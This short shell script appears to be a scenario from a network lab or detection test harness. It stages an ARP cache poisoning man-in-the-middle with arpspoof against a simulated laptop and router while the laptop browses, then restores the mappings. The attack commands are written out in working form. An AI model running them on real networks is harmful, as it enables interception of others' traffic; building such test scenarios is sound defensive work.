# Attack: ARP cache poisoning (dsniff's arpspoof) from the attacker: the laptop is told
# the router's IP is at the attacker's MAC and the router the laptop's (-r), while the
# laptop browses; the attacker forwards, a classic man in the middle. On exit arpspoof
# re-ARPs the true mappings.
DESCRIPTION="arpspoof -t laptop -r router for ~15 s while the laptop browses"

scenario() {
    nsx attacker sysctl -qw net.ipv4.ip_forward=1
    bgjob attacker arpspoof arpspoof -i eth0 -t "$RES_laptop" -r "$ROUTER_IP"
    local i
    for i in 1 2 3 4 5 6; do
        sleep 2.5
        browse laptop "https://www.wikipedia.org/?i=$i"
    done
    stop_job arpspoof INT 12
    nsx attacker sysctl -qw net.ipv4.ip_forward=0
}
